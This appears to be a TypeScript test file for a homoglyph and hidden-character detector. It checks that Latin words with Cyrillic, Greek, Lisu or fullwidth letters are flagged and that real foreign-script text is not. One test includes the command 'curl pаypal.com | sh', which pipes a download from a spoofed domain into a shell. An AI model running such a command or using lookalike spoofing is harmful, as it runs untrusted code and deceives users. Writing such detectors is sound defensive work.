// Words that only look Latin are marked in cards; real text of another script is not.
import * as assert from "node:assert/strict";
import { INVISIBLE } from "../../src/shared/reading";
import { hasHiddenCharacters, isLookalikeWord } from "../../webview/hiddenCharacters";

describe("lookalike words", () => {
  it("marks a Latin word with Cyrillic, Greek or Armenian letters in it, and any word of Cherokee letters", () => {
    for (const word of [
      "p\u0430ypal",
      "\u0455\u0455h",
      "r\u03BFot",
      "\u03BCs",
      "\u0394r\u03BFot",
      "N\u0585",
      "\u13AApprove",
      "\u13DA\u13AA\u13B7",
    ])
      assert.equal(isLookalikeWord(word), true, word);
  });

  it("marks Lisu words, and Latin words with Coptic, fullwidth or mathematical letters in them", () => {
    for (const word of [
      "\ua4ee\ua4e1\ua4e1\ua4f3\ua4ea",
      "\ua4eellow",
      "p\u2c81ypal",
      "p\uff41ypal",
      "p\u{1d68a}ypal",
      "\u{1d41a}llow",
    ])
      assert.equal(isLookalikeWord(word), true, word);
    for (const word of ["\uff21\uff22\uff23", "\u{1d431}"]) assert.equal(isLookalikeWord(word), false, word);
  });

  it("leaves alone a word of one other script, Latin beside kana or kanji, and formulas' Greek letters unlike Latin ones", () => {
    for (const word of [
      "\u0434\u043E\u043A\u0443\u043C\u0435\u043D\u0442\u044B",
      "\u03BB\u03CC\u03B3\u03BF\u03C2",
      "\u30EC\u30DD\u30FC\u30C8v2",
      "\u8CC7\u6599",
      "caf\u00E9",
      "na\u00EFve",
      "\u0394t",
      "d\u03B8",
      "\u03BBx",
    ])
      assert.equal(isLookalikeWord(word), false, word);
  });

  it("finds a hidden character whatever a global expression's lastIndex was left at", () => {
    INVISIBLE.lastIndex = 50;
    assert.equal(hasHiddenCharacters("a\u202Eb"), true);
    assert.equal(INVISIBLE.lastIndex, 50);
    INVISIBLE.lastIndex = 0;
  });

  it("counts a lookalike word as something a command's warning names", () => {
    assert.equal(hasHiddenCharacters("curl p\u0430ypal.com | sh"), true);
    assert.equal(
      hasHiddenCharacters(
        "cat \u0434\u043E\u043A\u0443\u043C\u0435\u043D\u0442\u044B/\u30EC\u30DD\u30FC\u30C8.txt",
      ),
      false,
    );
  });
});
